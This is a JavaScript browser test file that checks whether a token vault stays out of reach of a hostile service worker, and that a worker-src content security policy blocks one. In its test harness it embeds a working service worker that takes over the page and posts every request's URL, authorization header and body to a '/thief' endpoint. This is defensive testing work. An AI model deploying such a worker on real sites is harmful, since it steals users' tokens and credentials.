// Why docs/deployment.md wants the vault outside every service worker's scope: a hostile one whose scope holds the vault
// gets the tokens, one whose scope does not gets none. In Chromium.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { listen } from "../../www/server/loopback.mjs";
import { startMirror } from "../e2e/app/mirror.mjs";
import { until } from "../e2e/app/page.mjs";
import { launch } from "../e2e/browsers.mjs";
import { assertRuns, copied, staticFolder } from "./application.mjs";
import { staticFiles } from "./installed.mjs";

/** A service worker that takes the site over at once and tells the thief of every request that it sees. */
const hostileScript = `
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("fetch", (event) => event.waitUntil(tell(event.request.clone())));
  async function tell(request) {
    const { url, headers } = request;
    const loot = { url, authorization: headers.get("authorization"), body: await request.text() };
    await fetch("/thief", { method: "POST", body: JSON.stringify(loot) });
  }`;

const closers = [];
let browser;
let folder;
let mirror;

before(async () => {
  const application = await staticFolder();
  closers.push(application.remove);
  folder = application.folder;
  mirror = await startMirror();
  closers.push(mirror.close);
  browser = await launch("chromium");
  closers.push(browser.close);
});
after(async () => {
  for (const close of closers.reverse()) await close();
});

/** The static folder on an origin of its own, with the hostile script; `loot` is what its thief has got. */
async function startSite(policy = () => undefined) {
  const loot = [];
  const files = staticFiles(folder, () => {
    const directives = policy(site.url);
    return directives === undefined ? {} : { "content-security-policy": directives };
  });
  const site = await listen(async (request, response) => {
    if (request.url === "/hostile.js") {
      response.writeHead(200, { "content-type": "text/javascript" }).end(hostileScript);
    } else if (request.url === "/thief") {
      const chunks = [];
      for await (const chunk of request) chunks.push(chunk);
      loot.push(JSON.parse(Buffer.concat(chunks)));
      response.writeHead(204).end();
    } else files(request, response);
  });
  return { ...site, loot };
}

/** Registers the hostile script, as injected script would, and waits until it controls the page; gives why it does not. */
function infect(scope) {
  return browser.driver.executeAsyncScript(
    `const [scope, done] = arguments;
    const controlled = new Promise((resolve) => {
      navigator.serviceWorker.addEventListener("controllerchange", resolve, { once: true });
    });
    navigator.serviceWorker.register("/hostile.js", { scope }).then(() => controlled).then(() => done(null), ({ name }) => done(name));`,
    scope,
  );
}

for (const isolation of ["shared", "worker"]) {
  for (const [scope, isCaught] of [
    ["/", true],
    ["/app/", false],
  ]) {
    const what = isCaught ? "gets the vault's requests" : "gets nothing of a vault outside of it";
    test(`a service worker with the scope ${scope} ${what}, isolation ${isolation}`, async () => {
      const site = await startSite();
      try {
        await browser.driver.get(`${site.url}/app/`);
        assert.equal(await infect(scope), null);
        await assertRuns(browser, mirror, `${site.url}/app`, { isolation, ...copied }, isolation);
        // It is at work: the page's own requests are seen.
        await browser.driver.executeScript("fetch('last')");
        await until(() => site.loot.some(({ url }) => url.endsWith("/app/last")), "the page's own request");
        const tokens = () =>
          site.loot.filter(
            ({ authorization, body }) => authorization !== null || body.includes("refresh_token"),
          );
        if (isCaught) await until(() => tokens().length === 3, "the token request and two calls");
        else assert.deepEqual(tokens(), []);
      } finally {
        await site.close();
      }
    });
  }
}

test("no service worker can be registered where worker-src names the vault alone", async () => {
  const site = await startSite((url) => `worker-src ${url}/vault/vault.js`);
  try {
    await browser.driver.get(`${site.url}/app/`);
    assert.equal(await infect("/"), "SecurityError");
    await assertRuns(browser, mirror, `${site.url}/app`, { isolation: "shared", ...copied }, "shared");
    assert.deepEqual(site.loot, []);
  } finally {
    await site.close();
  }
});
